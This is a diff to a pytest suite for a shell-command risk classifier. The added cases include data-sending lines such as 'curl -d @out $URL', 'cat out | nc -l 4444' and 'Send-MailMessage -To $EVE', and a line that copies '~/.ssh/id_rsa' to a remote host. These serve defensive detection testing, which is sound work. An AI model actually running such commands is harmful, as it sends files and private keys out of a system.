@@ -56,7 +56,14 @@ def test_what_sends_is_known_with_where_it_sends(line: str, places: str) -> None
 
 
 @pytest.mark.parametrize(
-    "line", ["git push origin main", "curl -d @out $URL", "rclone copy out remote:in", "cat out | nc -l 4444"]
+    "line",
+    [
+        "git push origin main",
+        "curl -d @out $URL",
+        "rclone copy out remote:in",
+        "cat out | nc -l 4444",
+        "Send-MailMessage -To $EVE",
+    ],
 )
 def test_a_place_that_is_not_told_is_remembered_as_such(line: str) -> None:
     doing = read_command(line)
@@ -128,6 +135,11 @@ def test_what_destroys_is_known_with_its_limit(line: str, unbounded: bool) -> No
     assert doing.unbounded is unbounded
 
 
+def test_a_key_to_sign_in_with_is_no_secret_that_is_read() -> None:
+    assert read_command("ssh -i ~/.ssh/id_rsa build.example uptime").risks == {SEND}
+    assert read_command("scp ~/.ssh/id_rsa build.example:").risks == {SEND, SECRET}
+
+
 def test_who_makes_users_administers() -> None:
     assert read_command("aws iam create-user --user-name eve").risks == {"admin"}
 
@@ -147,6 +159,8 @@ def test_who_makes_users_administers() -> None:
         "git commit -m 'use curl -d to post to https://get.example'",
         "grep -r 'rm -rf /' docs",
         "nc -lvp 4444",
+        "ls &> .env",
+        "socat - out.txt",
         "ssh-keygen -t ed25519",
         "docker run --rm -it image bash",
     ],
